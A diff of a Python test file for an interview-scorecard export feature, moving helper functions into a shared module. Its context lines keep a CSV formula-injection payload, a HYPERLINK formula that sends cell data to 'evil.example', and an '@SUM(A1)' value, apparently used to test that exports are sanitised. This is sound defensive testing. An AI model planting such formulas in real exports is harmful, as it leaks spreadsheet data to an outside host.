@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import csv
 import io
 import os
 import shutil
@@ -13,13 +12,11 @@ import zipfile
 from datetime import timedelta
 
 import pytest
-from pypdf import PdfReader
 
 from assessment import create_app
 from assessment.database import write_transaction
 from assessment.extensions import db, limiter
-from assessment.models import Interview, Position, utcnow
-from assessment.models import Rating as RatingRow
+from assessment.models import Position, utcnow
 from assessment.scorecard import batch
 from assessment.scorecard.export import candidate_ids_for, export_scorecards, safe_cell
 from assessment.scorecard.export_commands import export_scorecards_command, export_worker_command
@@ -27,6 +24,7 @@ from assessment.scorecard.export_views import bp as exports_bp
 from assessment.scorecard.job_model import ExportJob
 from assessment.scorecard.jobs import export_dir
 from tests.conftest import _empty_tables, csrf_token
+from tests.web.helpers import pdf_text, rate_every_question, read_csv, wait_done
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
@@ -58,14 +56,7 @@ def rated(make_candidate, make_interview, interviewer, bank, position=None, valu
     """A candidate whose interview by `interviewer` is submitted, every question at `value`."""
     candidate = make_candidate(position, **kw) if position else make_candidate(**kw)
     interview = make_interview(candidate, interviewer)
-    with write_transaction() as session:
-        for q in session.get(Interview, interview.id).items:
-            note = f"{candidate.name} answered {q['id']} well"
-            session.add(
-                RatingRow(interview_id=interview.id, question_id=q["id"], value=value, notes=note)
-            )
-        row = session.get(Interview, interview.id)
-        row.status, row.submitted_at = "submitted", utcnow()
+    rate_every_question(interview, value, lambda qid: f"{candidate.name} answered {qid} well")
     return candidate
 
 
@@ -90,14 +81,6 @@ def position_of_three(users, make_position, make_candidate, make_interview, bank
     ]
     empty = make_candidate(position, name="Nobody Yet", external_id="@SUM(A1)")
     return position, people, empty
-
-
-def pdf_text(data: bytes) -> str:
-    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
-
-
-def read_csv(data: bytes) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
 
 
 # --- files ----------------------------------------------------------------------------
@@ -203,16 +186,6 @@ def start(client, position, kind, picks=()):
     token = csrf_token(client.get(f"/positions/{position.id}"))
     data = {"csrf_token": token, "kind": kind, "paper": "A4", "candidates": [str(p) for p in picks]}
     return client.post(f"/positions/{position.id}/exports", data=data)
-
-
-def wait_done(client, url, seconds=60):
-    deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline:
-        state = client.get(url, headers={"X-Requested-With": "fetch"}).get_json()
-        if state["status"] in ("done", "failed"):
-            return state
-        time.sleep(0.1)
-    raise AssertionError(f"export still {state['status']} after {seconds} s")
 
 
 def test_a_thread_job_reaches_done_with_a_download(client, login, users, position_of_three):
